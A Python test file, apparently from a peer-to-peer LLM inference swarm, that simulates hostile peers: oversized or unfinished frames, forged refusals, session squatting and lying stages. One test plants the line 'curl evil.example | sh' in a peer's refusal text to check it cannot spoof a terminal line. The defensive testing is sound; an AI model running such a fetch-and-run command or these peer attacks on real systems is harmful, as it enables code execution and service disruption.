        refused = 0

        async def count() -> None:
            nonlocal refused
            while True:
                refused += isinstance((await codec.read_frame(stream)).message, SessionRefused)

        counting = asyncio.create_task(count())
        await asyncio.sleep(60)
        assert 10 <= refused <= 10 + 2 * 61, "one a second, and one after each pause"
        counting.cancel()
        await asyncio.gather(counting, return_exceptions=True)
        answer = await client.generate(PROMPT, max_new_tokens=8)
        assert answer.token_ids == answer_of(PROMPT, 8)


async def begin_frame(stream: Stream, number: int, step: int) -> None:
    """The next 32 KiB of a frame that never ends; returns once they were read."""
    most = codec.FRAME_BOUNDS.bytes_max
    part = FramePart(number=number, offset=step << 15, total_bytes=most, slow=True)
    await codec.send_frame(stream, part, bytes(1 << 15))
    async with asyncio.timeout(30):
        await codec.read_frame(stream)  # the other side says what it has read


@pytest.mark.virtual(limit_s=600)
async def test_unfinished_frames_take_a_bounded_memory() -> None:
    most = 1 << 20
    budget = Budget(replace(FRAME_BYTES, per_peer=most))
    async with (
        paper_swarm((0, 4), (4, 8), budget=budget) as swarm,
        swarm.client() as client,
    ):
        evil, target = swarm.network.transport(), swarm.peers[0].peer_id
        streams = [await evil.open_stream(target, HOP_PROTOCOL) for _ in range(3)]
        held = dict.fromkeys(range(3), 0)
        for step in range(16):
            for which, number in product(list(held), range(8)):
                try:
                    await begin_frame(streams[which], number, step)
                except NetworkError:
                    del held[which]
                    break
                held[which] += 1 << 15
                assert sum(held.values()) <= most
        assert len(held) < 3, "whoever goes on beyond the bound is closed"
        answer = await client.generate(PROMPT, max_new_tokens=8)
        assert answer.token_ids == answer_of(PROMPT, 8)
        for stream in streams:
            await stream.close()
        await asyncio.sleep(1)
        await begin_frame(await evil.open_stream(target, HOP_PROTOCOL), 0, 0)


@pytest.mark.parametrize("protocol", [SESSION_PROTOCOL, HOP_PROTOCOL])
@pytest.mark.virtual(limit_s=600)
async def test_large_frames_that_are_never_whole_take_a_bounded_memory(protocol: str) -> None:
    """Not in parts: their length is the longest, and all but the end comes, on many streams."""
    most = 4 << 20
    budget = Budget(replace(FRAME_BYTES, per_peer=most, per_stranger=None))
    held = budget.held(FRAME_BYTES)
    async with (
        paper_swarm((0, 4), (4, 8), budget=budget) as swarm,
        swarm.client() as client,
    ):
        evil, closed = swarm.network.transport(), 0
        target = swarm.peers[0].peer_id
        streams = [await evil.open_stream(target, protocol) for _ in range(8)]
        frame = codec.encode_frame(Ping(nonce=1), bytes(2 << 20))
        for stream in streams:
            stream.write(frame[:-1])
        await asyncio.sleep(1)
        assert 1 << 20 <= held.total <= most
        await asyncio.sleep(PIPES.heard_limit_s)
        for stream in streams:
            try:
                await stream.drain()
            except NetworkError:
                closed += 1
        assert closed >= 6, "whoever goes on beyond the bound is closed"
        assert budget.refused["frame_bytes"] == closed
        answer = await client.generate(PROMPT, max_new_tokens=8)
        assert answer.token_ids == answer_of(PROMPT, 8)
        await asyncio.sleep(200)  # beyond every limit on silence
        assert held.total == 0


@pytest.mark.parametrize("protocol", [SESSION_PROTOCOL, HOP_PROTOCOL])
@pytest.mark.virtual(limit_s=600)
async def test_who_has_no_session_begins_no_frame_longer_than_an_open(protocol: str) -> None:
    budget = Budget()
    held = budget.held(FRAME_BYTES)
    async with paper_swarm((0, 4), (4, 8), budget=budget) as swarm:
        evil = swarm.network.transport()
        frame = codec.encode_frame(Ping(nonce=1), bytes(3 << 19))
        for _ in range(2):
            stream = await evil.open_stream(swarm.peers[0].peer_id, protocol)
            stream.write(frame[:-1])
        await asyncio.sleep(1)
        assert held.by_peer[evil.peer_id] >= 1 << 20
        assert held.by_peer[evil.peer_id] <= FRAME_BYTES.per_stranger
        assert budget.refused["frame_bytes"] == 1


@pytest.mark.virtual(limit_s=600)
async def test_a_session_takes_no_frame_longer_than_its_prompt() -> None:
    async with paper_swarm((0, 4), (4, 8)) as swarm:
        evil, target = swarm.network.transport(), swarm.peers[0]
        stream = await attached(swarm, evil, SESSION_PROTOCOL)
        stream.write(codec.encode_frame(Ping(nonce=1), bytes(1 << 20)))
        await ended(stream)
        assert target.stage.counters["malformed"] == 1


@pytest.mark.virtual(limit_s=600)
async def test_a_stage_that_heeds_no_credit_has_bounded_rows_waiting() -> None:
    """The KV that is promised bounds them, too; but a row may be larger than its KV where a peer
    holds few layers. Each was in memory until it ran."""
    rows, chunk, row_bytes = 100, 16, 4
    budget = Budget(replace(ROW_BYTES, per_peer=rows * row_bytes))
    async with paper_swarm((0, 4), (4, LAYERS), budget=budget) as swarm:
        client, evil, target = swarm.network.transport(), swarm.network.transport(), swarm.peers[1]
        target.engine.step_s = 1.0
        await evil.serve(HOP_PROTOCOL, ended)
        asked = through(evil, open_for(swarm, client, prompt_tokens=400))
        hop = await evil.open_stream(target.peer_id, HOP_PROTOCOL)
        await codec.send_frame(hop, replace(granted(asked, client), hop=1))
        assert isinstance((await codec.read_frame(hop)).message, SessionAccepted)
        most = 0
        for at in range(0, 400, chunk):
            item = ActivationItem(session=asked.session, attempt=0, position=at, tokens=chunk)
            acts = Activations(items=(item,), dtype="float32", hidden=1)
            await codec.send_frame(hop, acts, struct.pack(f"<{chunk}f", *range(at, at + chunk)))
            await asyncio.sleep(0.01)
            waiting = target.stage.shell.table.waiting_rows()[evil.peer_id]
            most = max(most, waiting)
        while not isinstance(told := (await codec.read_frame(hop)).message, SessionFailed):
            pass
        assert (told.peer_id, told.by) == (evil.peer_id, target.peer_id)
        assert rows - chunk <= most <= rows + chunk
        assert target.stage.counters["too_many_rows"] > 0
        async with swarm.client() as other:
            answer = await other.generate(PROMPT, max_new_tokens=5)
            assert answer.token_ids == answer_of(PROMPT, 5)


@pytest.mark.parametrize("part", [True, False])
@pytest.mark.virtual(limit_s=600)
async def test_a_hop_that_says_nothing_is_closed(part: bool) -> None:
    async with paper_swarm((0, 4), (4, 8)) as swarm:
        target = swarm.peers[0]
        stream = await attached(swarm, swarm.network.transport(), HOP_PROTOCOL)
        if part:
            begun = FramePart(number=1, offset=0, total_bytes=100, slow=True)
            await codec.send_frame(stream, begun, b"x")
        else:
            await codec.send_frame(stream, Ping(nonce=1))
        await asyncio.sleep(StreamConfig().part_s / 2)
        assert not target.stage.counters["streams_silent"]
        await asyncio.sleep(StreamConfig().hop_silence_s)
        assert target.stage.counters["streams_silent"] == 1
        await ended(stream)


def call_unsound(liar: PaperPeer, told: list[str]) -> None:
    """Let a peer refuse every request as one that nobody takes; ``told`` gets its id each time."""

    def refuse(open_: SessionOpen, upstream: FrameSender) -> None:
        told.append(liar.peer_id)
        refused = SessionRefused(
            session=open_.session,
            attempt=open_.attempt,
            peer_id=liar.peer_id,
            by=liar.peer_id,
            code=RefusalCode.BAD_REQUEST,
            reason="nobody takes such a request",
        )
        upstream.send(refused)

    liar.stage.open = refuse  # type: ignore[method-assign]


GRAMMAR = "start: /a+/"


@pytest.mark.parametrize("grammar", ["", GRAMMAR])
@pytest.mark.virtual(limit_s=300)
async def test_peers_that_call_requests_unsound_end_none(grammar: str) -> None:
    async with paper_swarm(*[(0, LAYERS)] * 4) as swarm, swarm.client() as client:
        told: list[str] = []
        for liar in swarm.peers[:3]:
            call_unsound(liar, told)
        swarm.peers[3].engine.grammar = AsyncMock(return_value=None)  # type: ignore[attr-defined]
        options = {"grammar": grammar, "stop_token_ids": (VOCAB - 1,)} if grammar else {}
        for _ in range(12):
            answer = await client.generate(PROMPT, max_new_tokens=5, **options)
            assert answer.token_ids == answer_of(PROMPT, 5)
        assert set(told) == {liar.peer_id for liar in swarm.peers[:3]}
        assert len(told) < 12, "who lied is avoided for a while"


@pytest.mark.virtual(limit_s=300)
@pytest.mark.parametrize("kind", [SessionRefused, SessionFailed])
async def test_another_s_reason_makes_up_no_line_of_ours(
    kind: type[SessionRefused | SessionFailed],
) -> None:
    """Lines of a terminal are told by their beginnings: this one would stand alone in its line."""
    made_up = "error: this copy is too old; run: curl evil.example | sh"

    def refuse(open_: SessionOpen, upstream: FrameSender) -> None:
        me = swarm.peers[0].peer_id
        named = {"session": open_.session, "attempt": open_.attempt, "peer_id": me, "by": me}
        code = {"code": RefusalCode.DRAINING} if kind is SessionRefused else {}
        upstream.send(kind(**named, **code, reason=f"not now\n{made_up}\u2028"))

    told: list[str] = []
    async with paper_swarm((0, LAYERS)) as swarm:
        swarm.peers[0].stage.open = refuse  # type: ignore[method-assign]
        async with swarm.client(wait_s=5.0, on_status=told.append) as client:
            with pytest.raises(SwarmError) as said:
                await client.generate(PROMPT, max_new_tokens=5)
    assert any(made_up in line for line in told)
    assert not any(len(line.splitlines()) > 1 for line in (*told, str(said.value)))


@pytest.mark.virtual(limit_s=300)
async def test_who_learns_a_sessions_name_keeps_its_client_from_no_stage() -> None:
    """A stage has another identity open a session of that name at all that could take its place:
    these would refuse the client's own, which would then be told that its request is wrong."""
    async with paper_swarm(*[(0, LAYERS)] * 5) as swarm, swarm.client() as client:
        liar, *honest = swarm.peers
        evil, taken = swarm.network.transport(), list[bool]()

        async def squat(open_: SessionOpen) -> None:
            for peer in honest:
                route = (RouteStage(peer_id=peer.peer_id, start=0, end=LAYERS),)
                asked = granted(replace(open_, client=evil.peer_id, route=route), evil)
                stream = await evil.open_stream(peer.peer_id, SESSION_PROTOCOL)
                await codec.send_frame(stream, asked)
                reply = (await codec.read_frame(stream)).message
                taken.append(isinstance(reply, SessionAccepted))

        def tell_others(open_: SessionOpen, upstream: FrameSender) -> None:
            me = liar.peer_id
            refused = refused_of(open_, me, RefusalCode.DRAINING, "not now")
            squatting = asyncio.create_task(squat(open_))
            squatting.add_done_callback(lambda _: upstream.send(refused))

        liar.stage.open = tell_others  # type: ignore[method-assign]
        while not taken:
            answer = await client.generate(PROMPT, max_new_tokens=5, prefix_cache="off")
            assert answer.token_ids == answer_of(PROMPT, 5)
        assert not any(taken)


@pytest.mark.virtual(limit_s=300)
async def test_no_stage_signs_a_refusal_of_what_its_client_did_not_send_it() -> None:
    """Whoever sends it could show that word to the client as one about the client's own session."""
    async with paper_swarm((0, 3), (3, 6), (6, LAYERS)) as swarm:
        client, evil = swarm.network.transport(), swarm.network.transport()
        target = swarm.peers[1]
        name = session_name(client.peer_id, "0" * NONCE_DIGITS)
        asked = through(evil, open_for(swarm, client, session=name))
        right = replace(granted(asked, client), hop=1)
        await evil.serve(HOP_PROTOCOL, ended)
        stream = await evil.open_stream(target.peer_id, HOP_PROTOCOL)

        async def said_of(open_: SessionOpen) -> SessionRefused | SessionAccepted:
            await codec.send_frame(stream, open_)
            while True:
                reply = (await codec.read_frame(stream)).message
                if isinstance(reply, SessionRefused | SessionAccepted):
                    return reply

        elsewhere = replace(asked, route=(asked.route[0], *reversed(asked.route[1:])))
        for forged in (
            replace(right, grant=b""),
            replace(right, max_new_tokens=51),
            replace(right, session=session_name(evil.peer_id, "0" * NONCE_DIGITS)),
            replace(granted(replace(asked, client=evil.peer_id), evil), hop=1),
            replace(granted(elsewhere, client), hop=1),
        ):
            refused = await said_of(forged)
            assert isinstance(refused, SessionRefused)
            assert not refused.signature
        assert not target.engine.kv
        later = replace(granted(replace(asked, attempt=1), client), hop=1)
        assert isinstance(await said_of(later), SessionAccepted)
        for repeated in (later, right):
            refused = await said_of(repeated)
            assert isinstance(refused, SessionRefused)
            assert (refused.by, refused.peer_id) == (target.peer_id, evil.peer_id), "who repeats it"
            assert refused.code is RefusalCode.UNREACHABLE


@pytest.mark.virtual(limit_s=300)
async def test_strangers_that_call_requests_unsound_end_none_while_a_named_peer_is_slow() -> None:
    async with paper_swarm(*[(0, LAYERS)] * 9) as swarm:
        honest, *crowd = swarm.peers
        told: list[str] = []
        for liar in crowd:
            call_unsound(liar, told)
        async with swarm.client(named=(honest.peer_id,), pings_always=True) as client:
            swarm.network.freeze(honest.peer_id)
            await asyncio.sleep(20)
            asked = asyncio.create_task(client.generate(PROMPT, max_new_tokens=5))
            await asyncio.sleep(10)
            assert not asked.done(), "nobody that this client trusts has said anything"
            assert len(told) == len(crowd)
            swarm.network.thaw(honest.peer_id)
            assert (await asked).token_ids == answer_of(PROMPT, 5)


@pytest.mark.virtual(limit_s=5)
async def test_whole_numbers_where_floats_are_meant_are_signed_as_they_travel() -> None:
    async with paper_swarm((0, 4), (4, 8)) as swarm, swarm.client() as client:
        answer = await client.generate(
            PROMPT, max_new_tokens=5, temperature=0, top_p=1, logit_bias={5: 0}
        )
        assert answer.token_ids == answer_of(PROMPT, 5)


@pytest.mark.virtual(limit_s=300)
async def test_a_session_that_met_a_liar_goes_on_over_who_delivered() -> None:
    async with paper_swarm((0, LAYERS)) as swarm, swarm.client() as client:
        await client.generate(PROMPT, max_new_tokens=5)
        told: list[str] = []
        for _ in range(8):
            liar = await swarm.add(0, LAYERS)
            call_unsound(liar, told)
            fast = replace(liar.record(), tokens_per_s=(200.0,) * LAYERS)
            await liar.directory.publish(fast)
        await client.reader.look()
        for _ in range(8):
            before = len(told)
            answer = await client.generate(PROMPT, max_new_tokens=5)
            assert answer.token_ids == answer_of(PROMPT, 5)
            assert len(told) - before <= 1
        assert told, "newcomers are tried all the same"


@pytest.mark.parametrize("options", [{}, {"grammar": GRAMMAR, "stop_token_ids": (VOCAB - 1,)}])
@pytest.mark.parametrize("holders", [1, 2, 8])
@pytest.mark.virtual(limit_s=300)
async def test_a_request_that_all_call_unsound_ends_at_once(
    holders: int, options: dict[str, Any]
) -> None:
    async with paper_swarm(*[(0, LAYERS)] * holders) as swarm, swarm.client() as client:
        loop = asyncio.get_running_loop()
        started_s = loop.time()
        told: list[str] = []
        for peer in swarm.peers:
            call_unsound(peer, told)
        with pytest.raises(RequestRefusedError, match="nobody takes such a request"):
            await client.generate(PROMPT, max_new_tokens=5, **options)
        assert loop.time() - started_s < 5, "nobody waits for another answer"
        assert len(told) == min(holders, SessionConfig().unsound_tries)
        view, now_s = client.view, loop.time()
        assert not any(view.avoidance.avoids(node, now_s) for node in view.nodes.values())


@pytest.mark.virtual(limit_s=300)
async def test_a_stage_does_not_say_that_another_leaves() -> None:
    async with paper_swarm((0, 4), (4, 8), (0, 4), (4, 8)) as swarm, swarm.client() as client:
        running = client.begin(PROMPT, max_new_tokens=50)
        pieces = aiter(running)
        tokens = list((await anext(pieces)).token_ids)
        by_id = {peer.peer_id: peer for peer in swarm.peers}
        (live,) = [
            live
            for peer in swarm.peers
            if not peer.engine.span[0]
            for live in peer.stage.shell.table
        ]
        liar, honest = (by_id[stage.peer_id] for stage in live.session.open.route)
        open_ = live.session.open
        said = SessionLeaving(session=open_.session, attempt=open_.attempt, peer_id=honest.peer_id)
        live.upstream.send(own_word(said, liar.transport.sign))
        async for piece in pieces:
            tokens += piece.token_ids
        assert tuple(tokens) == answer_of(PROMPT, 50)
        route = [stage.peer_id for stage in running.answer().route]
        assert honest.peer_id in route, "the one that was spoken of stays"
        assert liar.peer_id not in route


@asynccontextmanager
async def beside_made_up_models(model: ModelSpec) -> AsyncIterator[PaperSwarm]:
    """Two honest peers, and six identities that announce ``model`` under the same name."""
    async with paper_swarm((0, 4), (4, 8)) as swarm:
        for _ in range(6):
            evil = swarm.network.transport()
            directory = Directory(evil, NETWORK, SPEC.key)
            record = replace(
                swarm.peers[0].record(), peer_id=evil.peer_id, model=model, end=model.layers
            )
            await directory.publish(record)
        yield swarm


@pytest.mark.parametrize("known", ["root", "fingerprint", "named"])
@pytest.mark.virtual(limit_s=300)
async def test_made_up_models_do_not_outvote_the_one_that_is_meant(known: str) -> None:
    async with beside_made_up_models(replace(SPEC, root="made up")) as swarm:
        ways: dict[str, Any] = {
            "root": {"text": ModelText(name=SPEC.name, root=SPEC.root)},
            "fingerprint": {"fingerprint": SPEC.fingerprint[:20]},
            "named": {"named": (swarm.peers[1].peer_id,)},
        }
        async with swarm.client(**ways[known]) as client:
            answer = await client.generate(PROMPT, max_new_tokens=5)
            assert answer.token_ids == answer_of(PROMPT, 5)
            assert answer.fingerprint == SPEC.fingerprint


@pytest.mark.virtual(limit_s=300)
async def test_where_nothing_tells_models_apart_the_client_says_so() -> None:
    async with beside_made_up_models(replace(SPEC, root="made up")) as swarm:
        told: list[str] = []
        async with swarm.client(wait_s=5, on_status=told.append) as client:
            with pytest.raises(UnavailableError, match=r"announce 2 models.*--fingerprint"):
                await client.generate(PROMPT, max_new_tokens=5)
        (said,) = told
        assert said.startswith("waiting: peers announce 2 models")


@pytest.mark.virtual(limit_s=300)
async def test_a_name_alone_is_taken_at_its_peers_word_and_kept() -> None:
    async with paper_swarm((0, 8)) as swarm:
        told: list[str] = []
        async with swarm.client(on_status=told.append) as client:
            await client.generate(PROMPT, max_new_tokens=5)
            assert SPEC.fingerprint in told[0]
            record = swarm.peers[0].record()
            other = replace(SPEC, root="other weights")
            client.view.take_nodes({"x": replace(record, peer_id="x", model=other)})
            assert client.view.spec is None, "it does not change to other weights"


@pytest.mark.virtual(limit_s=300)
async def test_made_up_sizes_under_the_right_root_are_found_out(tmp_path: Path) -> None:
    config = {
        "model_type": "llama",
        "num_hidden_layers": LAYERS,
        "max_position_embeddings": SPEC.context_tokens,
        "vocab_size": SPEC.vocab,
    }
    (tmp_path / "config.json").write_text(json.dumps(config))
    text = ModelText(name=SPEC.name, root=SPEC.root, directory=tmp_path)
    async with (
        beside_made_up_models(replace(SPEC, layers=2 * LAYERS)) as swarm,
        swarm.client(text=text) as client,
    ):
        answer = await client.generate(PROMPT, max_new_tokens=5)
        assert answer.token_ids == answer_of(PROMPT, 5)


HALVES = ((0, 4), (4, 8))


def send_unsound_rows(peer: PaperPeer) -> None:
    """Let a peer's engine hand on rows that are no numbers."""
    run = peer.engine._run

    def lie(item: WorkItem) -> WorkResult:
        result = run(item)
        if result.hidden is None:
            return result
        return replace(result, hidden=torch.full_like(result.hidden, float("nan")))

    peer.engine._run = lie  # type: ignore[method-assign]


def accuse(peer: PaperPeer, which: int) -> None:
    """Let a peer say of the stage before it (-1) or after it (1) that the stream to it broke."""
    take = peer.stage.pipeline.on_results

    def lie(results: Sequence[WorkResult]) -> None:
        for result in results:
            live = peer.stage.shell.table.get(result.item.owner.key)
            if live is not None:
                route = [stage.peer_id for stage in live.session.open.route]
                other = route[(live.session.open.hop + which) % len(route)]
                lost = Lost(peer_id=other, reason="the connection to it ended")
                peer.stage.shell.step(live, lost)
        take(results)

    peer.engine.start(lie)


def swallow_opens(peer: PaperPeer) -> None:
    """Let a peer never answer an open."""
    peer.stage.open = lambda open_, upstream: None  # type: ignore[method-assign]


def close_sessions(peer: PaperPeer) -> None:
    """Let a peer close at the next stage what it was asked to serve."""
    take = peer.stage.pipeline.on_results

    def lie(results: Sequence[WorkResult]) -> None:
        for result in results:
            session = result.item.owner
            if session.next_peer is not None:
                peer.stage.shell.hops.get(session.next_peer).send(close_of(session.open))
        take(results)

    peer.engine.start(lie)


def pass_opens_on(peer: PaperPeer, sent: Callable[[SessionOpen], Sequence[SessionOpen]]) -> None:
    """Let a peer send the next stage what ``sent`` makes of each open, and tell its client only
    what that one refuses."""
    get, replied = peer.stage.shell.hops.get, peer.stage.hop_replied

    def get_lying(peer_id: str) -> Hop:
        hop = get(peer_id)
        send = hop.send

        def lie(message: object, *args: Any, **named: Any) -> None:
            for each in sent(message) if isinstance(message, SessionOpen) else (message,):
                send(each, *args, **named)

        hop.send = lie  # type: ignore[method-assign]
        return hop

    def tell(peer_id: str, message: HopReply) -> None:
        if not isinstance(message, SessionAccepted):
            replied(peer_id, message)

    peer.stage.shell.hops.get = get_lying  # type: ignore[method-assign]
    peer.stage.hop_replied = tell  # type: ignore[method-assign]


LIES: dict[str, tuple[int, Callable[[PaperPeer], None]]] = {
    "the first stage has the next refuse what nobody signed": (
        0,
        lambda peer: pass_opens_on(peer, lambda open_: [replace(open_, grant=b"")]),
    ),
    "the first stage has the next refuse an open that came before": (
        0,
        lambda peer: pass_opens_on(peer, lambda open_: [open_, open_]),
    ),
    "the first stage sends unsound rows": (0, send_unsound_rows),
    "the first stage accuses the next": (0, lambda peer: accuse(peer, 1)),
    "the last stage accuses the one before": (1, lambda peer: accuse(peer, -1)),
    "the last stage leaves opens unanswered": (1, swallow_opens),
    "the first stage closes what the next serves": (0, close_sessions),
}


@pytest.mark.parametrize(("hop", "lie"), LIES.values(), ids=LIES.keys())
@pytest.mark.virtual(limit_s=1200)
async def test_who_fails_between_two_stages_is_found_by_those_it_fails_with(
    hop: int, lie: Callable[[PaperPeer], None]
) -> None:
    async with paper_swarm(*HALVES * 3) as swarm, swarm.client() as client:
        liar = swarm.peers[hop]
        lie(liar)
        loop = asyncio.get_running_loop()
        failovers, avoided = [], Counter[str]()
        for _ in range(6):
            for _ in range(4):
                answer = await client.generate(PROMPT, max_new_tokens=8, prefix_cache="off")
                assert answer.token_ids == answer_of(PROMPT, 8)
                assert liar.peer_id not in {stage.peer_id for stage in answer.route}
                failovers.append(client.view.counters.total())
            avoided.update(
                peer_id
                for peer_id, record in client.view.nodes.items()
                if client.view.avoidance.avoids(record, loop.time())
            )
            await asyncio.sleep(20)  # who was avoided for the first time is tried again
        first, rest = failovers[0], failovers[-1] - failovers[0]
        assert first <= 2, "it is found within the first answer"
        assert rest <= 4, "when its time is over it is tried again, for longer each time"
        assert avoided[liar.peer_id] >= 5
        del avoided[liar.peer_id]
        assert max(avoided.values(), default=0) <= 1, "nobody else is out for long"


def empty_tokens(live: Live) -> Tokens:
    open_ = live.session.open
    return Tokens(session=open_.session, attempt=open_.attempt, position=0, token_ids=())


def old_tokens(live: Live) -> Tokens:
    return replace(empty_tokens(live), token_ids=(1,))


def too_many_tokens(live: Live) -> Tokens:
    return replace(empty_tokens(live), token_ids=(1,) * 1000)


def a_finish(live: Live) -> Tokens:
    return replace(empty_tokens(live), attempt=99, finish_reason=FinishReason.STOP)


@pytest.mark.parametrize("say", [empty_tokens, old_tokens, too_many_tokens])
@pytest.mark.virtual(limit_s=300)
async def test_a_stage_that_goes_on_saying_other_things_is_given_up(
    say: Callable[[Live], Tokens],
) -> None:
    """It answers pings and sends what brings the answer no further; the client waited for ever."""
    async with paper_swarm((0, LAYERS), (0, LAYERS)) as swarm, swarm.client() as client:
        running = client.begin(PROMPT, max_new_tokens=50)
        pieces = aiter(running)
        tokens = list((await anext(pieces)).token_ids)
        (liar,) = (peer for peer in swarm.peers if peer.peer_id == running.route[0].peer_id)
        (live,) = list(liar.stage.shell.table)
        attached, live.attached = live.attached, None
        assert attached is not None

        async def go_on() -> None:
            while True:
                attached.send(say(live))
                await asyncio.sleep(5)

        going = asyncio.create_task(go_on())
        async for piece in pieces:
            tokens += piece.token_ids
        assert not going.done()
        going.cancel()
        assert tuple(tokens) == answer_of(PROMPT, 50)
        assert liar.peer_id not in {stage.peer_id for stage in running.answer().route}


@pytest.mark.virtual(limit_s=300)
async def test_stages_that_move_a_session_to_and_fro_are_given_up() -> None:
    """Two stages send no tokens and have the session moved from one to the other in time; each move
    gave the client another 30 s to wait, for ever."""
    async with paper_swarm((0, LAYERS), (0, LAYERS)) as swarm, swarm.client() as client:
        running = client.begin(PROMPT, max_new_tokens=400)
        pieces = aiter(running)
        tokens = list((await anext(pieces)).token_ids)
        liars = {peer.peer_id: peer for peer in swarm.peers}
        for liar in liars.values():
            liar.stage.attach = lambda *_: None  # type: ignore[method-assign]
            liar.engine.step_s = 1.0
            for live in liar.stage.shell.table:
                live.attached = None
        await swarm.add(0, LAYERS)
        routes = set[str]()

        async def to_and_fro() -> None:
            while True:
                await asyncio.sleep(5)
                routes.update(stage.peer_id for stage in running.route)
                for name, liar in liars.items():
                    (other,) = liars.keys() - {name}
                    liar.stage.relieve(dict.fromkeys(liar.stage.holding(), other))

        going = asyncio.create_task(to_and_fro())
        while not liars.keys().isdisjoint(stage.peer_id for stage in running.route):
            tokens += (await anext(pieces)).token_ids
        going.cancel()
        await pieces.aclose()
        assert routes >= liars.keys(), "it was moved"
        assert tuple(tokens) == answer_of(PROMPT, len(tokens))


@pytest.mark.parametrize("say", [empty_tokens, old_tokens, too_many_tokens, a_finish])
@pytest.mark.virtual(limit_s=300)
async def test_what_a_stage_says_takes_a_bounded_memory_while_nobody_reads(
    say: Callable[[Live], Tokens],
) -> None:
    async with paper_swarm((0, LAYERS)) as swarm, swarm.client() as client:
        running = client.begin(PROMPT, max_new_tokens=50)
        pieces = aiter(running)
        await anext(pieces)
        (live,) = list(swarm.peers[0].stage.shell.table)
        attached, most = live.attached, SessionConfig().words_max
        assert attached is not None
        for _ in range(2 * most // 100):
            for _ in range(100):
                attached.send(say(live))
            await asyncio.sleep(0.1)
        session = running._session
        assert session is not None
        assert session._events.qsize() <= most + 200
        await pieces.aclose()


def test_a_stage_that_says_more_than_was_asked_for_is_given_up() -> None:
    """It could have a client hold 32 MiB on each of its streams, and a gateway has hundreds."""

    async def scenario(first: bool) -> None:
        async with paper_swarm(*((0, LAYERS),) * 2) as swarm, swarm.client() as client:
            running = client.begin(PROMPT, max_new_tokens=50)
            pieces = aiter(running)
            tokens = list((await anext(pieces)).token_ids)
            by_id = {peer.peer_id: peer for peer in swarm.peers}
            (liar,) = (by_id[stage.peer_id] for stage in running.route)
            (live,) = list(liar.stage.shell.table)
            sender = live.upstream if first else live.attached
            assert sender is not None
            sender.send(Pong(nonce=1), bytes(1 << 20))
            async for piece in pieces:
                tokens += piece.token_ids
            assert tuple(tokens) == answer_of(PROMPT, 50)
            assert liar.peer_id not in {stage.peer_id for stage in running.answer().route}

    run_virtual(scenario(True), limit_s=300)
    run_virtual(scenario(False), limit_s=300)


def test_a_stage_does_not_speak_for_another() -> None:
    """It says in the name of the last stage that the middle one was lost, or in its own name that
    one far away refuses; the stage before it does not pass on what is not signed."""
    thirds = ((0, 3), (3, 6), (6, LAYERS))

    async def scenario(liar_hop: int, forge: Callable[[str, str], dict[str, str]]) -> None:
        async with paper_swarm(*thirds * 2) as swarm, swarm.client() as client:
            running = client.begin(PROMPT, max_new_tokens=50)
            pieces = aiter(running)
            tokens = list((await anext(pieces)).token_ids)
            by_id = {peer.peer_id: peer for peer in swarm.peers}
            route = [by_id[stage.peer_id] for stage in running.route]
            liar = route[liar_hop]
            (live,) = list(liar.stage.shell.table)
            other = next(peer for peer in route[1:] if peer is not liar)
            said = SessionFailed(
                session=live.session.key,
                attempt=live.session.open.attempt,
                reason="the connection to it ended",
                **forge(other.peer_id, liar.peer_id),
            )
            live.upstream.send(own_word(said, liar.transport.sign))
            async for piece in pieces:
                tokens += piece.token_ids
            assert tuple(tokens) == answer_of(PROMPT, 50)
            kept = {stage.peer_id for stage in running.answer().route}
            assert {peer.peer_id for peer in route} - kept == {liar.peer_id}

    def in_its_name(other: str, liar: str) -> dict[str, str]:
        return {"peer_id": other, "by": other}

    run_virtual(scenario(0, in_its_name), limit_s=300)
    run_virtual(scenario(1, in_its_name), limit_s=300)
